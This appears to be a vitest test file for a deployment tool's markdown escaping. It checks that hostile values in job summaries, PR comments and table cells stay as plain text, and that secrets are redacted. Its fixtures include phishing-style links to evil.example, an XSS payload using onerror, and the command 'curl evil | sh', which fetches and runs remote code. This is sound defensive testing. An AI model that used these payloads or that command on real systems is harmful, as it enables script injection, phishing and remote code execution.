/**
 * The one escaping of outside text in markdown (src/report/markdown.ts), which the job summary,
 * the pull request comment and the sweep's table share: each hostile value comes out as text that
 * GitHub's markdown (GFM) cannot turn into a link, HTML, code, an extra table cell, a new line or
 * a mention. The checks below are GitHub's own rules, written as patterns.
 */
import { describe, expect, it } from 'vitest';
import { escapeCell, escapeMarkdown } from '../../src/util/markdown.js';
import { renderPrComment } from '../../src/report/pr-comment.js';
import { renderSummary } from '../../src/report/summary.js';
import { createRedactor } from '../../src/util/redact.js';
import { harmless, LINK, MENTION, shown } from '../support/markdown-text.js';

const HOSTILE: readonly [string, string, string][] = [
  ['a link', '[Deploy token expired - re-authenticate](http:evil.example)', 'link'],
  ['an image', '![x](https://evil.example/p.png)', 'link'],
  ['a reference link', '[Sign in][1]', 'link'],
  ['an autolink', 'see https://evil.example/login', 'autolink'],
  ['a www autolink', 'see www.evil.example', 'autolink'],
  ['an angle autolink', '<https://evil.example>', 'autolink'],
  ['an email autolink', 'mail admin@evil.example', 'email'],
  ['backticks', 'run `curl evil | sh`', 'code'],
  ['HTML', '<img src=x onerror=alert(1)><a href="https://evil.example">here</a>', 'html'],
  ['a newline', 'first\n# heading\r\n- list', 'newline'],
  ['a team mention', 'build failed, ask @org/team', 'mention'],
  ['a user mention', '@octocat please look', 'mention'],
  ['emphasis', '**bold** _it_ ~~gone~~', 'emphasis'],
];

describe('escapeMarkdown: hostile text stays text', () => {
  it.each(HOSTILE)('%s', (_, text, harm) => {
    // The pattern finds it in the raw text (the check is real) but nothing once escaped.
    expect(harmless(text)).toContain(harm);
    expect(harmless(escapeMarkdown(text))).toEqual([]);
  });

  it.each(HOSTILE)('%s reads the same once rendered', (_, text) => {
    expect(shown(escapeMarkdown(text))).toBe(text.replace(/\r?\n|\r/g, ' '));
  });

  it('breaks a mention with a zero-width joiner after @, nothing else visible', () => {
    expect(escapeMarkdown('@org/team')).toBe('@\u200Dorg/team');
  });
});

describe('escapeCell: one cell of a table', () => {
  it.each([
    ['a pipe', 'a | b', 'a \\| b'],
    ['a newline', 'a\nb', 'a<br>b'],
    ['a link', '[x](http:evil.example)', '\\[x\\]\\(http\\:evil\\.example\\)'],
  ])('%s', (_, text, cell) => expect(escapeCell(text)).toBe(cell));

  it('keeps the table to its columns', () => {
    const cell = escapeCell('x | y | z\nw');
    expect(`| ${cell} | 1 |`.replace(/\\\|/g, '').split('|')).toHaveLength(4);
  });
});

describe('the summary and the comment escape every outside value', () => {
  const FILE = '[Deploy token expired - re-authenticate](http:evil.example)';

  it('a file name in "Largest files sent" is no link', () => {
    const md = renderSummary({
      status: 'success',
      steps: [],
      archive: { bytes: 10, files: 1, sha256: 'a'.repeat(64), largest: [{ name: FILE, size: 10 }] },
    });
    expect(LINK.test(md)).toBe(false);
    expect(shown(md)).toContain(FILE);
  });

  it('a server message naming a team pings nobody, in the summary and in the comment', () => {
    const error = 'build failed: ask @org/team (see [docs](https://evil.example))';
    const summary = renderSummary({ status: 'failure', steps: [{ name: 'deploy', outcome: 'failure', error }], error });
    const comment = renderPrComment({
      kind: 'deploy',
      status: 'failure',
      app: 'shop',
      environment: 'pr-1',
      error,
      updatedAt: '2026-11-01T00:00:00Z',
    });
    for (const md of [summary, comment]) {
      expect(MENTION.test(md)).toBe(false);
      expect(
        LINK.test(
          md
            .split('\n')
            .filter((l) => !l.startsWith('<!--'))
            .join('\n'),
        ),
      ).toBe(false);
      expect(shown(md)).toContain('@org/team');
    }
  });
});

describe('redaction finds a secret in markdown, escaped', () => {
  it('the summary names an app whose name is the password: redacted once rendered', () => {
    const secret = 'sec-leaky.pw_1';
    const redact = createRedactor([secret]);
    const md = renderSummary({ status: 'success', steps: [], created: [`app "${secret}"`] });
    expect(md).not.toContain(secret);
    expect(shown(md)).toContain(secret);
    expect(shown(redact(md))).not.toContain(secret);
    expect(redact(md)).toContain('***');
  });
});
